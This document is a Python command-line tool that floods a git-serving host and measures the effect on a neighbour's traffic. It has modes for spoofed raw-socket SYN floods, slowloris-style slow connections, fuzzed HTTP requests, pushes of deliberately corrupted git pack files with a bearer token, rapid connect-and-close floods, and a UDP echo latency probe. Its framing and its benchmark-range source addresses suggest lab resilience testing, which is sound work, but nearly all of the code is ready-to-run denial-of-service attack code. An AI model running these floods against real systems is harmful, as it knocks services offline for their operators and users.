#!/usr/bin/env python3
"""git_flood.py - what floods a machine that serves git, and what an honest neighbour sees meanwhile.
  syn SECONDS INTERFACE MAC ADDRESS PORT RATE   SYNs a second, from addresses that are nobody's
  slow SECONDS ADDRESS PORT COUNT SOURCE...     so many clients that send a byte a second
  nonsense SECONDS ADDRESS PORT SOURCE...       requests of no meaning
  packs SECONDS ADDRESS PORT STORE TOKEN SOURCE...  pushes of packs with bytes wrong
  connect SECONDS ADDRESS PORT SOURCE...        connections, closed as soon as they are open
  echo ADDRESS PORT                             sends back what comes
  stream SECONDS ADDRESS PORT                   twenty datagrams a second to an echo: the longest time
                                                without an answer, in ms
SPDX-License-Identifier: ISC"""
import hashlib
import random
import selectors
import socket
import struct
import sys
import time
import zlib

RNG = random.Random(11)


def total(data):
    return sum(struct.unpack(f">{len(data) // 2}H", data))


def folded(n):
    while n >> 16:
        n = (n & 0xFFFF) + (n >> 16)
    return n ^ 0xFFFF


def syn_frames(count, mac, own, address, port):
    """SYNs as a Linux host sends them, from public addresses."""
    to = socket.inet_aton(address)
    ethernet = bytes.fromhex(mac.replace(":", "")) + own + b"\x08\x00"
    options = bytes.fromhex("020405b40402080a000000010000000001030307")
    for _ in range(count):
        source = bytes([198, 18 + RNG.randrange(2), RNG.randrange(256), RNG.randrange(1, 255)])
        ip = struct.pack(">BBHHHBBH", 0x45, 0, 60, RNG.randrange(65536), 0x4000, 64, 6, 0)
        ip = ip[:10] + struct.pack(">H", folded(total(ip + source + to))) + source + to
        tcp = struct.pack(">HHIIBBHHH", RNG.randrange(1024, 65536), port, RNG.randrange(1 << 32), 0,
                          0xA0, 2, 64240, 0, 0) + options
        pseudo = source + to + struct.pack(">HH", 6, len(tcp))
        tcp = tcp[:16] + struct.pack(">H", folded(total(pseudo + tcp))) + tcp[18:]
        yield ethernet + ip + tcp


def syn(end, interface, mac, address, port, rate):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((interface, 0))
    frames = list(syn_frames(20000, mac, s.getsockname()[4], address, int(port)))
    begin, sent = time.monotonic(), 0
    while (now := time.monotonic()) < end:
        while sent < (now - begin) * int(rate):
            try:
                s.send(frames[sent % len(frames)])
            except OSError:
                pass  # the queue is full: that one is lost
            sent += 1
        time.sleep(0.001)
    print(sent, "SYNs")


def start(address, port, source):
    s = socket.socket()
    s.setblocking(False)
    s.setsockopt(socket.SOL_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
    s.bind((source, 0))
    s.connect_ex((address, int(port)))
    return s


def heads(address, store=b"arp"):
    host = b"Host: " + address.encode() + b"\r\n"
    return [b"GET /" + store + b".git/info/refs?service=git-upload-pack HTTP/1.1\r\n" + host,
            b"POST /" + store + b".git/git-upload-pack HTTP/1.1\r\n" + host +
            b"Content-Type: application/x-git-upload-pack-request\r\nContent-Length: 900\r\n\r\n"]


def slow(end, address, port, count, *sources):
    """A byte a second; whoever is closed comes back."""
    held, opened = {}, 0
    texts = heads(address)
    while time.monotonic() < end:
        for i in range(int(count)):
            if i not in held:
                held[i] = [start(address, port, sources[i % len(sources)]), 0]
                opened += 1
            s, at = held[i]
            text = texts[i % 2]
            # a head of one byte a second, or a body of which
            part = text if i % 2 and at == 0 else (text + b"0" * 999)[at:at + 1]
            try:
                s.send(part)
                held[i][1] += len(part)
                if s.recv(4096) == b"":
                    raise ConnectionResetError
            except BlockingIOError:
                pass
            except OSError:
                s.close()
                del held[i]
        time.sleep(1)
    print(opened, "connections of slow clients")


def ask(address, port, source, data):
    try:
        with socket.socket() as s:
            s.settimeout(1)
            s.bind((source, 0))
            s.connect((address, int(port)))
            s.sendall(data)
            s.shutdown(socket.SHUT_WR)
            while s.recv(65536):
                pass
    except OSError:
        pass


def nonsense(end, address, port, *sources):
    count = 0
    while time.monotonic() < end:
        data = bytearray(RNG.choice(heads(address)) + b"\r\n0032want " + b"1" * 40 + b"\n00000009done\n")
        if count % 4 == 0:
            data = bytearray(RNG.randbytes(RNG.randrange(1, 3000)))
        for _ in range(RNG.randrange(1, 6)):
            data[RNG.randrange(len(data))] = RNG.randrange(256)
        ask(address, port, sources[count % len(sources)], bytes(data))
        count += 1
    print(count, "requests of nonsense")


def pack():
    """A pack of some objects, with a right checksum, and most times something wrong in it."""
    body = bytearray()
    count = RNG.randrange(1, 20)
    for _ in range(count):
        text = RNG.randbytes(RNG.randrange(1, 15))
        body += bytes([RNG.choice([1, 2, 3, 4, 6, 7, 5, 0]) << 4 | len(text)])
        if body[-1] >> 4 in (6, 7):
            body += RNG.randbytes(20 if body[-1] >> 4 == 7 else 1)
        body += zlib.compress(text)
    data = bytearray(b"PACK" + struct.pack(">II", 2, count) + body)
    if RNG.randrange(2):
        data[RNG.randrange(len(data))] ^= 1 << RNG.randrange(8)
    return bytes(data) + hashlib.sha1(data).digest()


def packs(end, address, port, store, token, *sources):
    count = 0
    while time.monotonic() < end:
        line = "0" * 40 + " " + RNG.randbytes(20).hex() + " refs/heads/primary\0report-status"
        body = f"{len(line) + 4:04x}{line}0000".encode() + pack()
        head = (f"POST /{store}.git/git-receive-pack HTTP/1.1\r\nHost: {address}\r\n"
                f"Authorization: Bearer {token}\r\n"
                "Content-Type: application/x-git-receive-pack-request\r\n"
                f"Connection: close\r\nContent-Length: {len(body)}\r\n\r\n")
        ask(address, port, sources[count % len(sources)], head.encode() + body)
        count += 1
    print(count, "packs of nonsense")


def connect(end, address, port, *sources):
    count, done = 0, 0
    chooser = selectors.DefaultSelector()
    while time.monotonic() < end:
        while len(chooser.get_map()) < 200:
            chooser.register(start(address, port, sources[count % len(sources)]),
                             selectors.EVENT_WRITE, time.monotonic())
            count += 1
        now = time.monotonic()
        ready = {key.fileobj for key, _ in chooser.select(0.02)}
        for key in list(chooser.get_map().values()):
            if key.fileobj in ready or now - key.data > 2:
                done += key.fileobj in ready
                chooser.unregister(key.fileobj)
                key.fileobj.close()
    print(done, "of", count, "connections")


def echo(address, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((address, int(port)))
    while True:
        s.sendto(*s.recvfrom(2000))


def stream(end, address, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((address, int(port)))
    s.settimeout(0.05)
    last, longest, got, sent = time.monotonic(), 0, 0, 0
    while time.monotonic() < end:
        try:
            s.send(b"x")
            sent += 1
            s.recv(16)
            got += 1
            longest, last = max(longest, time.monotonic() - last), time.monotonic()
            time.sleep(0.05)
        except OSError:
            pass
    print(int(1000 * max(longest, time.monotonic() - last)), got, sent)


def main(verb, *args):
    if verb == "echo":
        echo(*args)
    verbs = {"syn": syn, "slow": slow, "nonsense": nonsense, "packs": packs, "connect": connect,
             "stream": stream}
    verbs[verb](time.monotonic() + float(args[0]), *args[1:])


main(*sys.argv[1:])
